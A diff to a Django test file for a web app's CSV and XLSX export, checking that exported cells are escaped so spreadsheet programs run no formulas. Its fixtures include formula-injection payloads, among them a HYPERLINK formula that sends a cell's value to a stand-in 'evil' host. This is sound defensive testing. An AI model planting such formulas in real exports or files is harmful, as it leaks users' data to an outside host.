@@ -158,10 +158,24 @@ def test_an_export_runs_no_formulas_and_survives_any_text(client, hire, kind):
     make_letter(title="\t-1", body="plain - text")
     heads, *rows = exported(client, kind)
     title, body = heads.index("Title"), heads.index("Text")
-    assert [row[title] for row in rows] == ["'\t-1", "'+7", '\'=HYPERLINK("http://evil")']
+    # A tab begins a cell of its own where somebody parts a CSV by tabs.
+    first = {"csv": "'\t'-1", "xlsx": "'\t-1"}[kind]
+    assert [row[title] for row in rows] == [first, "'+7", '\'=HYPERLINK("http://evil")']
     assert rows[0][body] == "plain - text"
     assert rows[1][body] == "' @SUM(A1)"
     assert rows[2][body].startswith("a😀xx")
+
+
+def test_an_export_runs_no_formulas_in_a_program_that_parts_it_otherwise(client, hire):
+    client.force_login(hire(VIEW, EXPORT))
+    make_letter(title='Мост;=HYPERLINK("http://evil/?"&A1;"x")', body="It\n=1+1\n\t@SUM(A1)")
+    response = client.get(reverse(LIST), {"export": "csv"})
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    for delimiter in (",", ";", "\t"):
+        read = csv.reader(StringIO(text, newline=""), delimiter=delimiter)
+        cells = [cell.lstrip(' \t"') for row in read for cell in row]
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+        assert any("HYPERLINK" in cell for cell in cells)
 
 
 def test_persons_are_exported_only_with_the_permission_and_each_export_is_logged(
